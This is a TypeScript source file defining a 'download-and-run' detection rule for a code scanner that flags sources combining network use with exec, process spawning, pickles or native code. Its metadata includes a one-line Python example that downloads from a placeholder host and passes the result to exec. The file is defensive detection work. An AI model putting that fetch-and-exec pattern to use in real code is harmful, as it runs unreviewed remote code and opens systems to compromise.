import { type Correlation, correlated, isGraveOf } from '../effects/correlation.js';
import type { Rule } from '../rule.js';

const FETCH_AND_RUN: Correlation = {
  means: isGraveOf('uses-network'),
  end: isGraveOf('runs-text-as-code', 'starts-processes', 'imports-by-name', 'reads-pickles', 'calls-native-code'),
  message: 'Uses the network, and runs code or programs',
};

export const downloadAndRun: Rule = {
  meta: {
    id: 'download-and-run',
    points: 30,
    what: 'The network, used in a source that also runs text, programs, pickles or native code.',
    why: 'What is fetched while it runs was read by nobody, and may be another thing every time.',
    example: 'import urllib.request\nexec(urllib.request.urlopen("https://host/x").read())\n',
    accepted: 'def download(data):\n    return data\n\nrun = download\n',
    saferWay: 'Put everything that runs into the strategy itself.',
  },

  check(facts) {
    return correlated(facts, FETCH_AND_RUN);
  },
};
